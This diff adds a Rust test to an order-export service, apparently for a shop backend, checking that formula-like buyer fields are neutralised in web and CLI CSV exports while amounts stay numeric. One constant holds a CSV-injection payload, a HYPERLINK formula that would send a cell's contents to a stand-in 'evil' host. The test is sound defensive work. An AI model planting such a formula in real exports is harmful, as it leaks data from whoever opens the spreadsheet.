@@ -700,3 +700,48 @@ async fn ndjson_read_on_two_connections_is_the_same_file_as_on_one() {
     assert_eq!(alone, expected);
     assert_eq!(paired, expected);
 }
+
+/// A buyer-typed formula, as a spreadsheet would run it.
+const FORMULA: &str = "=HYPERLINK(\"http://evil/?\"&B2,\"x\")";
+
+#[tokio::test]
+async fn formulas_typed_by_buyers_are_neutralised_in_every_csv_and_amounts_stay_numbers() {
+    let app = spawn_app().await;
+    let account = insert_account(&mut app.db.connect(), "sklep_a");
+    insert_order(
+        &mut app.db.connect(),
+        &Seed {
+            account,
+            id: "f-1",
+            first_name: FORMULA,
+            last_name: "@SUM(1+1)",
+            email: "+48600100200",
+            total: "-12.50",
+            items: &[("-1+1 kubek", 1, "-12.50")],
+            ..Seed::default()
+        },
+    );
+    let client = admin(&app).await;
+    // The first row of the web export and of the CLI's, in `format`.
+    let first_rows = |format: &'static str| {
+        let (app, client) = (&app, &client);
+        async move {
+            let web = export(app, client, &format!("format={format}")).await;
+            let web = parse_csv(&web.bytes().await.unwrap());
+            let cli = parse_csv(&cli_export(app, &["--format", format]).stdout);
+            [web[0].clone(), cli[0].clone()]
+        }
+    };
+    for row in first_rows("csv").await {
+        assert_eq!(row["buyer_first_name"], format!("'{FORMULA}"));
+        assert_eq!(row["buyer_last_name"], "'@SUM(1+1)");
+        assert_eq!(row["buyer_email"], "'+48600100200");
+        assert_eq!(row["total_amount"], "-12.50");
+    }
+    for row in first_rows("csv-items").await {
+        assert_eq!(row["offer_name"], "'-1+1 kubek");
+        assert_eq!(row["buyer_email"], "'+48600100200");
+        assert_eq!(row["price"], "-12.50");
+        assert_eq!(row["order_total_amount"], "-12.50");
+    }
+}
